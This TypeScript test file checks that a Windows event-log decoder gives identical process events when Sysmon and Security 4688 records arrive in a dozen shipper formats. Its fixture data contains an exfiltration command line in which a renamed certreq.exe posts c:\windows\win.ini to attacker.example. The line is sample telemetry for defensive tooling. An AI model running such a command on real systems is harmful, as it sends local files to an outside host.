/**
 * The same event written in every dialect yields the same WinEvent (on the fields that dialect carries) and the
 * same ProcessEvent. The writers below produce each dialect the way its shipper does (quoting, typed values,
 * renamed/removed fields), so a decoder that mis-maps one field breaks the equality.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import type { WinEvent } from '../../src/model/event.js';
import { toProcessEvent } from '../../src/model/toProcess.js';
import { decodeBytes } from './helpers.js';

interface Canonical {
  provider: string;
  guid: string;
  eventId: number;
  recordId: number;
  time: string; // 7 fractional digits, as Windows renders SystemTime
  channel: string;
  computer: string;
  pid: number;
  tid: number;
  data: Record<string, string>;
}

const SYSMON_CERTREQ: Canonical = {
  provider: 'Microsoft-Windows-Sysmon',
  guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
  eventId: 1,
  recordId: 90210,
  time: '2024-05-01T10:15:30.1230000Z',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  computer: 'WS07.corp.example',
  pid: 2840,
  tid: 3112,
  data: {
    RuleName: '-',
    UtcTime: '2024-05-01 10:15:30.123',
    ProcessGuid: '{3FC4FEFD-1A2B-6632-7700-000000004900}',
    ProcessId: '6120',
    Image: 'C:\\Users\\Public\\cr.exe',
    FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
    Description: 'CertReq.exe',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: 'CertReq.exe',
    CommandLine: 'cr.exe -Post -config "https://attacker.example/up?a=1&b=<2>" c:\\windows\\win.ini out.txt',
    CurrentDirectory: 'C:\\Users\\bob\\',
    User: 'CORP\\bob',
    LogonGuid: '{3FC4FEFD-0C33-6632-3750-BA0000000000}',
    LogonId: '0xba5037',
    TerminalSessionId: '1',
    IntegrityLevel: 'High',
    Hashes: 'SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,MD5=098F6BCD4621D373CADE4E832627B4F6',
    ParentProcessGuid: '{3FC4FEFD-1A20-6632-7600-000000004900}',
    ParentProcessId: '5004',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    ParentCommandLine: '"C:\\Windows\\system32\\cmd.exe" /c run.bat',
  },
};

const SECURITY_4688: Canonical = {
  provider: 'Microsoft-Windows-Security-Auditing',
  guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
  eventId: 4688,
  recordId: 31337,
  time: '2024-05-01T10:15:30.1230000Z',
  channel: 'Security',
  computer: 'WS07.corp.example',
  pid: 4,
  tid: 400,
  data: {
    SubjectUserSid: 'S-1-5-21-1-2-3-1104',
    SubjectUserName: 'bob',
    SubjectDomainName: 'CORP',
    SubjectLogonId: '0x4a5af0',
    NewProcessId: '0x17e8',
    NewProcessName: 'C:\\Windows\\System32\\certreq.exe',
    TokenElevationType: '%%1937',
    ProcessId: '0x138c',
    CommandLine: 'certreq -Post -config https://attacker.example/ c:\\windows\\win.ini out.txt',
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    TargetLogonId: '0x0',
    ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    MandatoryLabel: 'S-1-16-12288',
  },
};

function xmlEscape(s: string, quote: '"' | "'"): string {
  const out = s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return quote === '"' ? out.replace(/"/g, '&quot;') : out.replace(/'/g, '&apos;');
}

function xml(c: Canonical, q: '"' | "'", nl: string): string {
  const a = (v: string) => `${q}${xmlEscape(v, q)}${q}`;
  const lines = [
    `<Event xmlns=${a('http://schemas.microsoft.com/win/2004/08/events/event')}>`,
    `<System>`,
    `<Provider Name=${a(c.provider)} Guid=${a(c.guid)}/>`,
    `<EventID>${c.eventId}</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>`,
    `<TimeCreated SystemTime=${a(c.time)}/>`,
    `<EventRecordID>${c.recordId}</EventRecordID><Correlation/>`,
    `<Execution ProcessID=${a(String(c.pid))} ThreadID=${a(String(c.tid))}/>`,
    `<Channel>${c.channel}</Channel><Computer>${c.computer}</Computer><Security UserID=${a('S-1-5-18')}/>`,
    `</System>`,
    `<EventData>`,
    ...Object.entries(c.data).map(([k, v]) => `<Data Name=${a(k)}>${xmlEscape(v, q)}</Data>`),
    `</EventData>`,
    `<RenderingInfo Culture=${a('en-US')}><Message>Process Create: ${xmlEscape(c.data['CommandLine'] ?? '', q)}</Message><Level>Information</Level></RenderingInfo>`,
    `</Event>`,
  ];
  return lines.join(nl);
}

/** evtx_dump: typed numbers, bare GUIDs, #attributes, 6-digit fractions. */
function evtxDump(c: Canonical): string {
  const data: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(c.data)) {
    if (/^\d+$/.test(v)) data[k] = Number(v);
    else if (/^\{[0-9A-F-]{36}\}$/i.test(v)) data[k] = v.slice(1, -1);
    else data[k] = v;
  }
  const doc = {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: c.provider, Guid: c.guid.slice(1, -1) } },
        EventID: c.eventId, Version: 5, Level: 4, Task: 1, Opcode: 0, Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: c.time.replace(/(\.\d{6})\d+Z$/, '$1Z') } },
        EventRecordID: c.recordId, Correlation: null,
        Execution: { '#attributes': { ProcessID: c.pid, ThreadID: c.tid } },
        Channel: c.channel, Computer: c.computer, Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: data,
    },
  };
  return `Record ${c.recordId}\n${JSON.stringify(doc, null, 2)}\n`;
}

function winlogbeatRaw(c: Canonical): Record<string, unknown> {
  return {
    '@timestamp': c.time,
    event: { code: String(c.eventId), kind: 'event', provider: c.provider },
    host: { name: c.computer.toLowerCase() },
    winlog: {
      channel: c.channel, computer_name: c.computer, event_id: String(c.eventId), provider_name: c.provider, provider_guid: c.guid,
      record_id: c.recordId, process: { pid: c.pid, thread: { id: c.tid } }, user: { identifier: 'S-1-5-18' }, version: 5,
      event_data: c.data,
    },
  };
}

/** After the sysmon / security ingest pipelines: EventData moved to ECS fields and removed from event_data. */
function winlogbeatIngested(c: Canonical): Record<string, unknown> {
  const doc = winlogbeatRaw(c);
  const winlog = doc['winlog'] as Record<string, unknown>;
  const d = { ...c.data };
  const take = (k: string) => {
    const v = d[k];
    delete d[k];
    return v;
  };
  if (c.eventId === 1) {
    const [domain, name] = take('User')!.split('\\');
    const hashes = Object.fromEntries(take('Hashes')!.split(',').map((h) => h.split('=')).map(([k, v]) => [k!.toLowerCase(), v!.toLowerCase()]));
    doc['@timestamp'] = `${take('UtcTime')!.replace(' ', 'T')}Z`;
    take('RuleName');
    doc['process'] = {
      entity_id: take('ProcessGuid'), pid: Number(take('ProcessId')), executable: take('Image'), name: 'cr.exe', command_line: take('CommandLine'),
      working_directory: take('CurrentDirectory'), hash: hashes,
      pe: { original_file_name: take('OriginalFileName'), company: d['Company'], description: d['Description'], product: d['Product'], file_version: d['FileVersion'] },
      parent: { entity_id: take('ParentProcessGuid'), pid: Number(take('ParentProcessId')), executable: take('ParentImage'), command_line: take('ParentCommandLine') },
    };
    doc['user'] = { domain, name };
  } else {
    doc['process'] = {
      pid: parseInt(take('NewProcessId')!, 16), executable: take('NewProcessName'), command_line: take('CommandLine'),
      parent: { pid: parseInt(take('ProcessId')!, 16), executable: take('ParentProcessName') },
    };
  }
  (winlog as Record<string, unknown>)['event_data'] = d;
  (winlog as Record<string, unknown>)['event_id'] = c.eventId; // numbers in older versions
  return doc;
}

/** NXLog CE: flat, local-time EventTime without zone, System ProcessID/ThreadID on top (EventData ProcessId lost). */
function nxlog(c: Canonical): Record<string, unknown> {
  const doc: Record<string, unknown> = {
    EventTime: '2024-05-01 12:15:30', Hostname: c.computer, Keywords: -9223372036854775808, EventType: 'INFO', SeverityValue: 2, Severity: 'INFO',
    EventID: c.eventId, SourceName: c.provider, ProviderGuid: c.guid, Version: 5, Task: 1, OpcodeValue: 0, RecordNumber: c.recordId,
    ProcessID: c.pid, ThreadID: c.tid, Channel: c.channel, Domain: 'NT AUTHORITY', AccountName: 'SYSTEM', UserID: 'S-1-5-18', AccountType: 'User',
    Message:
      c.eventId === 1
        ? `Process Create:\r\nRuleName: -\r\nProcessId: ${c.data['ProcessId']}\r\nImage: ${c.data['Image']}\r\n`
        : `A new process has been created.\r\n\r\nProcess Information:\r\n\tNew Process ID:\t\t${c.data['NewProcessId']}\r\n\tCreator Process ID:\t${c.data['ProcessId']}\r\n`, Category: 'Process Create (rule: ProcessCreate)', Opcode: 'Info',
    EventReceivedTime: '2024-05-01 12:15:31', SourceModuleName: 'in', SourceModuleType: 'im_msvistalog',
  };
  for (const [k, v] of Object.entries(c.data)) if (k.toLowerCase() !== 'processid' && k.toLowerCase() !== 'threadid') doc[k] = v;
  if (c.eventId === 1) {
    // NXLog CE cannot keep both; for a zone-less EventTime Sysmon's UtcTime gives the UTC time.
  } else {
    doc['EventTime'] = c.time.replace(/\.\d+Z$/, 'Z');
  }
  return doc;
}

/** OTRF/Mordor: NXLog EE fields + Logstash metadata. */
function otrf(c: Canonical): Record<string, unknown> {
  const doc: Record<string, unknown> = {
    '@timestamp': '2024-05-01T10:15:32.000Z', '@version': '1', host: 'wec.internal.cloudapp.net', port: 64545, tags: ['mordorDataset'],
    Hostname: c.computer, EventTime: '2024-05-01 06:15:30', EventReceivedTime: '2024-05-01 06:15:31', SourceModuleType: 'im_msvistalog',
    Keywords: '0x8000000000000000', EventID: c.eventId, SourceName: c.provider, ProviderGuid: c.guid, Version: 5, Task: 1, OpcodeValue: 0,
    RecordNumber: c.recordId, ExecutionProcessID: c.pid, ExecutionThreadID: c.tid, Channel: c.channel, UserID: 'S-1-5-18',
    TimeCreated: c.time,
    ...c.data,
  };
  return doc;
}

/** python-evtx flattening: ProviderName/Computer, naive UTC time with 6 digits. */
function pythonEvtx(c: Canonical): Record<string, unknown> {
  return {
    ProviderName: c.provider, EventID: c.eventId, TimeCreated: c.time.replace('T', ' ').replace(/(\.\d{6})\d*Z$/, '$1'), EventRecordID: c.recordId,
    Channel: c.channel, Computer: c.computer, ...c.data,
  };
}

function hecXml(c: Canonical): Record<string, unknown> {
  return { time: Date.parse(c.time) / 1000, host: c.computer, source: `XmlWinEventLog:${c.channel}`, sourcetype: 'XmlWinEventLog', event: xml(c, "'", '') };
}

function hecJson(c: Canonical): Record<string, unknown> {
  return { time: Date.parse(c.time) / 1000, host: c.computer, sourcetype: '_json', event: winlogbeatRaw(c) };
}

interface Dialect {
  name: string;
  write: (c: Canonical) => string | Buffer;
  /** EventData names this dialect cannot carry. */
  loses?: (c: Canonical) => string[];
  /** How much of the event time the dialect carries (default: all 7 digits). */
  time?: (c: Canonical) => 'ms' | 's';
}

const DIALECTS: Dialect[] = [
  { name: 'wevtutil XML (double quotes, pretty)', write: (c) => `<?xml version="1.0" encoding="utf-8"?>\n<Events>\n${xml(c, '"', '\n  ')}\n</Events>\n` },
  { name: 'Splunk XmlWinEventLog (single quotes, one line)', write: (c) => `${xml(c, "'", '')}\n` },
  { name: 'UTF-16LE XML with BOM (PowerShell >)', write: (c) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml(c, '"', '\r\n'), 'utf16le')]) },
  { name: 'evtx_dump text output', write: evtxDump, time: () => 'ms' },
  { name: 'Winlogbeat raw NDJSON', write: (c) => `${JSON.stringify(winlogbeatRaw(c))}\n` },
  { name: 'Winlogbeat after ingest pipeline', write: (c) => `${JSON.stringify(winlogbeatIngested(c))}\n`, loses: () => ['RuleName', 'UtcTime'], time: () => 'ms' },
  // NXLog CE writes seconds; Sysmon's own UtcTime has milliseconds.
  { name: 'NXLog CE', write: (c) => `${JSON.stringify(nxlog(c))}\n`, time: (c) => (c.eventId === 1 ? 'ms' : 's') },
  { name: 'OTRF / Mordor', write: (c) => `${JSON.stringify(otrf(c))}\n` },
  { name: 'python-evtx flat NDJSON', write: (c) => `${JSON.stringify(pythonEvtx(c))}\n`, time: () => 'ms' },
  { name: 'Splunk HEC envelope (XML string)', write: (c) => JSON.stringify(hecXml(c)), time: () => 'ms' },
  { name: 'Splunk HEC envelope (JSON event)', write: (c) => JSON.stringify(hecJson(c)) },
  { name: 'gzip of a JSON array (pretty-printed)', write: (c) => gzipSync(JSON.stringify([winlogbeatRaw(c)], null, 2)) },
];

async function decodeOne(bytes: string | Buffer, label: string): Promise<WinEvent> {
  const { events, errors } = await decodeBytes(bytes, label, {}, 97);
  assert.deepEqual(errors, [], `${label}: no errors`);
  assert.equal(events.length, 1, `${label}: one event`);
  return events[0]!;
}

for (const canonical of [SYSMON_CERTREQ, SECURITY_4688]) {
  test(`${canonical.provider} ${canonical.eventId}: same WinEvent and ProcessEvent from every dialect`, async () => {
    const reference = await decodeOne(DIALECTS[0]!.write(canonical), DIALECTS[0]!.name);
    assert.deepEqual(reference.data, canonical.data, 'the reference decodes to the canonical EventData');
    const referenceProcess = toProcessEvent(reference);
    assert.ok(referenceProcess);
    for (const dialect of DIALECTS) {
      const ev = await decodeOne(dialect.write(canonical), dialect.name);
      const s = ev.system;
      assert.equal(s.provider, canonical.provider, `${dialect.name}: provider`);
      assert.equal(s.eventId, canonical.eventId, `${dialect.name}: eventId`);
      assert.equal(s.channel, canonical.channel, `${dialect.name}: channel`);
      assert.equal(s.computer, canonical.computer, `${dialect.name}: computer`);
      if (!dialect.name.startsWith('Splunk HEC envelope (XML')) assert.equal(s.recordId, canonical.recordId, `${dialect.name}: recordId`);
      const precision = dialect.time?.(canonical);
      const expectedMs = Date.parse(canonical.time);
      if (precision === 'ms') assert.equal(Date.parse(s.timeCreated), expectedMs, `${dialect.name}: time to the millisecond`);
      else if (precision === 's') assert.equal(Date.parse(s.timeCreated), expectedMs - (expectedMs % 1000), `${dialect.name}: time to the second`);
      else assert.equal(s.timeCreated, canonical.time, `${dialect.name}: time`);
      const lost = new Set(dialect.loses?.(canonical) ?? []);
      const expectedData = Object.fromEntries(Object.entries(canonical.data).filter(([k]) => !lost.has(k)));
      assert.deepEqual(sorted(ev.data), sorted(expectedData), `${dialect.name}: EventData under the original names`);
      const pe = toProcessEvent(ev);
      assert.ok(pe, `${dialect.name}: a process event`);
      const { event: _e1, timestamp: _t1, ...got } = pe;
      const { event: _e2, timestamp: _t2, ...want } = referenceProcess;
      assert.deepEqual(got, want, `${dialect.name}: same ProcessEvent`);
    }
  });
}

function sorted(o: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(o).sort(([a], [b]) => (a < b ? -1 : 1)));
}
